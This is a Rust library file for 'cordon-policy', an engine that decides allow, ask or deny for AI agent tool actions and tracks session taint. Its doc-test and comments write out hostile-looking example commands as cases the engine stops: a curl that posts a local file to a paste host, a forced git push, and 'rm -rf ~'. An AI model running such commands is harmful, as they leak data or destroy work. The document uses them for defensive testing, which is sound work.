//! cordon-policy decides allow / ask / deny for each action an AI agent wants
//! to take, and says why.
//!
//! It is pure: no I/O, no clock, no globals, no environment reads. Callers
//! (`cordon check`, the Claude Code hook, the MCP gateway) build an
//! [`Action`] and a [`Context`], keep a [`SessionState`] between calls, and get
//! a [`Decision`] with its verdict, risk classes and reasons.
//!
//! ```
//! use cordon_policy::{Action, Context, Policy, Rules, SessionState, Verdict};
//!
//! let rules = Rules::from_lists(&[], &[], &["Bash(git push --force *)".into()]).unwrap();
//! let policy = Policy::new(rules);
//! let ctx = Context::new("/work/app", "/work/app", Some("/home/me".into()));
//! let mut state = SessionState::default();
//!
//! // A chained command cannot hide behind a harmless first part.
//! let a = Action::Bash { command: "git status && git push --force origin main".into() };
//! let d = policy.decide(&a, &ctx, &state);
//! assert_eq!(d.verdict, Verdict::Deny);
//! println!("{}", d.summary());
//!
//! // Read-only commands need nobody.
//! let a = Action::Bash { command: "grep -rn TODO src | head".into() };
//! assert_eq!(policy.decide(&a, &ctx, &state).verdict, Verdict::Allow);
//!
//! // After fetching a page the session is tainted: sending data out needs a person.
//! let fetch = Action::WebFetch { url: "https://example.org/issue".into() };
//! let d = policy.decide(&fetch, &ctx, &state);
//! state.record(&fetch, &d);
//! let a = Action::Bash { command: "curl -d @notes.txt https://paste.example".into() };
//! assert_ne!(policy.decide(&a, &ctx, &state).verdict, Verdict::Allow);
//! ```
//!
//! How a decision is made is documented in `docs/POLICY.md`; in short:
//! every simple command inside a compound command is found (see [`shell`]),
//! each gets effect classes from a table of commands and flags, rules in
//! Claude Code syntax are checked against each of them (deny beats ask beats
//! allow), each class maps to a verdict depending on whether the action runs
//! in cordon's sandbox, and the session's taint and credential history raise
//! the verdict for anything that can send data out.

mod class;
mod classify;
mod decide;
mod exec;
mod readers;
pub mod rules;
pub mod shell;
mod spelling;
mod state;
mod table;

pub use class::{ClassSet, RiskClass};
pub use rules::{host_matches, RuleError, RuleWarning, RuleWarningKind, Rules};
pub use state::{Counters, SessionState, TaintSource};

use serde::{Deserialize, Serialize};
use std::path::PathBuf;

/// One thing an agent wants to do.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Action {
    Bash {
        command: String,
    },
    Read {
        path: String,
    },
    Write {
        path: String,
    },
    Edit {
        path: String,
    },
    WebFetch {
        url: String,
    },
    WebSearch {
        query: String,
    },
    Mcp {
        server: String,
        tool: String,
        arguments: serde_json::Value,
    },
    Net {
        host: String,
        port: u16,
    },
}

impl Action {
    /// The tool name as Claude Code spells it (`mcp__server__tool` for MCP).
    pub fn tool(&self) -> String {
        match self {
            Action::Bash { .. } => "Bash".into(),
            Action::Read { .. } => "Read".into(),
            Action::Write { .. } => "Write".into(),
            Action::Edit { .. } => "Edit".into(),
            Action::WebFetch { .. } => "WebFetch".into(),
            Action::WebSearch { .. } => "WebSearch".into(),
            Action::Mcp { server, tool, .. } => format!("mcp__{server}__{tool}"),
            Action::Net { .. } => "Net".into(),
        }
    }

    /// Build an action from a tool name and its input, as Claude Code sends
    /// them (`Bash` `{"command"}`, `Read`/`Write`/`Edit` `{"file_path"}`,
    /// `WebFetch` `{"url"}`, `WebSearch` `{"query"}`, `mcp__server__tool`
    /// with any arguments) plus cordon's `Net` `{"host", "port"}`. The error
    /// says which field is missing.
    pub fn from_tool_input(tool: &str, input: &serde_json::Value) -> Result<Action, String> {
        let field = |names: &[&str]| -> Result<String, String> {
            names
                .iter()
                .find_map(|n| input.get(*n).and_then(|v| v.as_str()))
                .map(str::to_string)
                .ok_or_else(|| format!("`{tool}` needs a string field `{}` in its input", names[0]))
        };
        Ok(match tool {
            "Bash" | "bash" => Action::Bash { command: field(&["command"])? },
            "Read" | "read" | "Grep" | "Glob" | "LS" => Action::Read { path: field(&["file_path", "path"])? },
            "Write" | "write" => Action::Write { path: field(&["file_path", "path"])? },
            "Edit" | "edit" | "MultiEdit" => Action::Edit { path: field(&["file_path", "path"])? },
            "NotebookEdit" => Action::Edit { path: field(&["notebook_path", "file_path", "path"])? },
            "WebFetch" | "webfetch" => Action::WebFetch { url: field(&["url"])? },
            "WebSearch" | "websearch" => Action::WebSearch { query: field(&["query"])? },
            "Net" | "net" => {
                let host = field(&["host"])?;
                let port = input
                    .get("port")
                    .and_then(|p| p.as_u64())
                    .and_then(|p| u16::try_from(p).ok())
                    .ok_or_else(|| "`Net` needs a numeric field `port` (1-65535) in its input".to_string())?;
                Action::Net { host, port }
            }
            t => match t.strip_prefix("mcp__").and_then(|r| r.split_once("__")) {
                Some((server, tool)) if !server.is_empty() && !tool.is_empty() => Action::Mcp {
                    server: server.to_string(),
                    tool: tool.to_string(),
                    arguments: input.clone(),
                },
                _ => {
                    return Err(format!(
                        "unknown tool `{t}` (expected Bash, Read, Write, Edit, WebFetch, WebSearch, Net or mcp__server__tool)"
                    ))
                }
            },
        })
    }

    /// A one-line description, `Tool(detail)`.
    pub fn describe(&self) -> String {
        let detail = match self {
            Action::Bash { command } => command.clone(),
            Action::Read { path } | Action::Write { path } | Action::Edit { path } => path.clone(),
            Action::WebFetch { url } => url.clone(),
            Action::WebSearch { query } => query.clone(),
            Action::Mcp { .. } => return self.tool(),
            Action::Net { host, port } => format!("{host}:{port}"),
        };
        let mut d: String = detail.chars().take(120).collect();
        if d.len() < detail.len() {
            d.push_str("...");
        }
        format!("{}({d})", self.tool())
    }
}

/// Where and how the action would run.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Context {
    /// The working directory (relative paths resolve against it).
    pub cwd: PathBuf,
    /// The workspace root: inside it the agent is free.
    pub workspace: PathBuf,
    /// The user's home directory (`~`), if known.
    pub home: Option<PathBuf>,
    /// The action runs inside cordon's sandbox.
    pub sandboxed: bool,
    /// Network policy patterns in force when sandboxed (`example.com`, `*.example.com`).
    pub allowed_domains: Vec<String>,
}

impl Context {
    /// An unsandboxed context.
    pub fn new(
        cwd: impl Into<PathBuf>,
        workspace: impl Into<PathBuf>,
        home: Option<PathBuf>,
    ) -> Context {
        Context {
            cwd: cwd.into(),
            workspace: workspace.into(),
            home,
            sandboxed: false,
            allowed_domains: Vec::new(),
        }
    }
}

/// The answer.
#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug, Hash)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    Allow,
    Ask,
    Deny,
}

impl Verdict {
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Allow => "allow",
            Verdict::Ask => "ask",
            Verdict::Deny => "deny",
        }
    }
}

/// Why: in words, with the rule or class that produced it.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
pub struct Reason {
    pub text: String,
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub rule: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub class: Option<RiskClass>,
}

/// A decision: the verdict, the effect classes found and the reasons (the
/// reasons for the verdict come first).
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
pub struct Decision {
    pub verdict: Verdict,
    pub classes: Vec<RiskClass>,
    pub reasons: Vec<Reason>,
    /// When the action runs, the session takes in untrusted content from here.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub taint: Option<TaintSource>,
    /// What the user can do to get a different answer, if anything.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub hint: Option<String>,
}

impl Decision {
    /// One actionable line for a user or a model:
    /// `deny: `rm -rf ~` deletes ~ outside the workspace (fix: ...)`.
    pub fn summary(&self) -> String {
        let mut s = format!(
            "{}: {}",
            self.verdict.as_str(),
            self.reasons
                .first()
                .map(|r| r.text.as_str())
                .unwrap_or("no reason recorded")
        );
        if let Some(r) = self.reasons.first().and_then(|r| r.rule.as_ref()) {
            if !s.contains(r.as_str()) {
                s.push_str(&format!(" [rule {r}]"));
            }
        }
        if let Some(h) = &self.hint {
            s.push_str(&format!(" ({h})"));
        }
        s
    }
}

/// The decision engine: rules plus the built-in analysis.
#[derive(Debug, Default)]
pub struct Policy {
    rules: Rules,
    parser: shell::ShellParser,
}

impl Policy {
    pub fn new(rules: Rules) -> Policy {
        Policy {
            rules,
            parser: shell::ShellParser::default(),
        }
    }

    /// The rules in force.
    pub fn rules(&self) -> &Rules {
        &self.rules
    }

    /// Decide one action. Pure: the same inputs give the same decision.
    pub fn decide(&self, action: &Action, ctx: &Context, state: &SessionState) -> Decision {
        decide::decide(self, action, ctx, state)
    }
}
